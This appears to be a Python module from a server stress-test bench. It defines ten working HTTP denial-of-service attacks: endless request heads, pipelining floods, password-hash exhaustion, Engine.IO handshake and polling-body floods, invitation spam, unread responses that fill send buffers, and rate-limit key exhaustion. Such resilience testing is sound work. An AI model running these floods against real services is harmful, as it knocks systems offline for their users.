"""Ten attacks over HTTP; nine of them need no account."""

import asyncio
import secrets
import socket
from contextlib import ExitStack
from functools import partial

from bench.servers import HOST
from bench.siege.attack import Attack, Target, get, post, status

PIECE = 32 * 1024
HEAD_PIECES_PER_SECOND = 16.0
"""Half a megabyte a second on each connection makes 60 MB in two minutes."""
PIPELINED_CONNECTIONS, PIPELINED_BYTES = 12, 3_200_000
AT_ONCE, AGAIN_SECONDS = 300, 30.0
HANDSHAKE = b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\n\r\n"
HANDSHAKES_PER_SECOND = 1_000
DOCUMENTS_PER_SECOND, CHECKS_PER_SECOND, INVITATIONS_PER_SECOND, BODIES_PER_SECOND = 10.0, 4.0, 2.0, 2.0
PACKETS = 499_000
UNREAD_CONNECTIONS, UNREAD_SECONDS = 100, 20.0
KEYS_PER_SECOND = 75.0
"""The rate makes 9,000 keys in two minutes."""

_START = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
_CHUNKED = b"POST /room/check HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"


async def _endless(start: bytes, piece: bytes, target: Target) -> None:
    """Send a request head without end, until the server answers or closes."""
    async with target.connection() as (reader, writer):
        answer = asyncio.create_task(reader.read(2**16))
        writer.write(start)
        async for _ in target.paced(HEAD_PIECES_PER_SECOND):
            if answer.done() or writer.is_closing():
                break
            writer.write(piece)
            target.met["KB sent"] += len(piece) // 1024
            await writer.drain()
        if answer.done():
            target.met[status(answer.result()) or "closed"] += 1
        answer.cancel()


async def pipelining(target: Target) -> None:
    """Pipeline whole requests, and read no answer until all are written."""
    requests = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
    all_of_them = requests * (PIPELINED_BYTES // PIPELINED_CONNECTIONS // len(requests))

    async def one() -> None:
        async with target.connection() as (reader, writer):
            writer.write(all_of_them)
            await writer.drain()
            writer.write_eof()
            while answers := await reader.read(2**16):
                target.met["200"] += answers.count(b"HTTP/1.1 200")

    async for number in target.paced(PIPELINED_CONNECTIONS / 10):
        if number == 0:
            for _ in range(PIPELINED_CONNECTIONS - 1):
                target.start(one())
        target.start(one())
    await target.landed()


async def hashes(target: Target) -> None:
    """Send 300 registrations at once, then 300 wrong logins, and repeat: each costs a password hash."""
    async for number in target.paced(2 / AGAIN_SECONDS):
        for _ in range(AT_ONCE):
            name = f"m-{secrets.token_hex(6)}"
            if number % 2 == 0:
                body = {"email": f"{name}@example.org", "username": name, "password": secrets.token_hex(12)}
                target.start(target.asks(post("/client", body)))
            else:
                body = {"username": name, "password": "no such password"}
                target.start(target.asks(post("/client/login", body)))
    await target.landed()


async def handshakes(target: Target) -> None:
    """Open sessions of Engine.IO that never send CONNECT."""
    async with target.connection() as (reader, writer):

        async def count() -> None:
            rest = b""
            while answers := await reader.read(2**16):
                answers = rest + answers
                for code in ("200", "429", "503"):
                    target.met[code] += answers.count(b"HTTP/1.1 " + code.encode())
                rest = answers[-11:] if b"HTTP/1.1 " not in answers[-12:] else b""

        counting = asyncio.create_task(count())
        async for _ in target.paced(HANDSHAKES_PER_SECOND / 20):
            if writer.is_closing():
                break
            writer.write(HANDSHAKE * 20)
            await writer.drain()
        counting.cancel()


async def documents(target: Target) -> None:
    async for _ in target.paced(DOCUMENTS_PER_SECOND):
        target.start(target.asks(get("/openapi.json")))
    await target.landed()


async def polling_bodies(target: Target) -> None:
    """Post polling bodies of half a million empty packets each."""
    body = b"\x1e".join([b"4"] * PACKETS)

    async def one() -> None:
        async with target.connection() as (reader, writer):
            writer.write(get("/socket.io/?EIO=4&transport=polling"))
            answer = await reader.read()
            sid = answer.partition(b'"sid":"')[2].partition(b'"')[0].decode()
        if not sid:
            target.met[f"handshake {status(answer)}"] += 1
            return
        await target.asks(post(f"/socket.io/?EIO=4&transport=polling&sid={sid}", body))

    async for _ in target.paced(BODIES_PER_SECOND):
        target.start(one())
    await target.landed()


async def room_lists(target: Target) -> None:
    """Request the list of all rooms."""
    async for _ in target.paced(CHECKS_PER_SECOND):
        target.start(target.asks(post("/room/check", {})))
    await target.landed()


async def invitations(target: Target) -> None:
    """Invite 200 addresses at a time to a room that the attacker has created."""
    creator = target.order.creator
    name = f"Trap {secrets.token_hex(4)}"
    room = {"name": name, "password": secrets.token_hex(12), "description": "", "creator": creator.username}
    while await target.asks(post("/room", room, person=creator)) == "503":
        pass
    async for number in target.paced(INVITATIONS_PER_SECOND):
        addresses = [f"guest-{number}-{place}@example.org" for place in range(200)]
        body = {"email": addresses, "room": name}
        target.start(target.asks(post("/invitation", body, person=creator)))
    await target.landed()


async def unread_answers(target: Target) -> None:
    """Request long answers and never read them, so that they fill the server's send buffers."""
    loop = asyncio.get_running_loop()
    while target.left() > 0:
        with ExitStack() as stack:
            for _ in range(UNREAD_CONNECTIONS):
                place = stack.enter_context(socket.socket())
                place.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                place.setblocking(False)
                place.bind((target.source, 0))
                await loop.sock_connect(place, (HOST, target.order.port))
                await loop.sock_sendall(place, post("/room/check", {}).replace(b"close", b"keep-alive") * 2)
                target.met["asked"] += 1
                await asyncio.sleep(UNREAD_SECONDS / 2 / UNREAD_CONNECTIONS)
            await asyncio.sleep(min(UNREAD_SECONDS / 2, max(0.0, target.left())))


async def limit_keys(target: Target) -> None:
    """Send a new email address each time: the server has to count a rate limit for each."""
    async for _ in target.paced(KEYS_PER_SECOND):
        body = {"email": f"{secrets.token_hex(8)}@example.org"}
        target.start(target.asks(post("/password/forgotten", body)))
    await target.landed()


HTTP_ATTACKS: dict[str, tuple[Attack, ...]] = {
    "heads without end": (
        *[partial(_endless, _START, b"a: b\r\n" * (PIECE // 6))] * 2,
        partial(_endless, b"GET /", b"a" * PIECE),
        partial(_endless, _START + b"A: ", b"a" * PIECE),
        partial(
            _endless, _CHUNKED + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n", b"a: b\r\n" * 5_000
        ),
    ),
    "pipelining": (pipelining,),
    "passwords to hash": (hashes,),
    "handshakes without CONNECT": (handshakes,),
    "/openapi.json": (documents,),
    "polling bodies of 499,000 packets": (polling_bodies,),
    "POST /room/check of 10,000 rooms": (room_lists,),
    "POST /invitation of 200": (invitations,),
    "answers that nobody reads": (unread_answers,),
    "names for the limits": (limit_keys,),
}
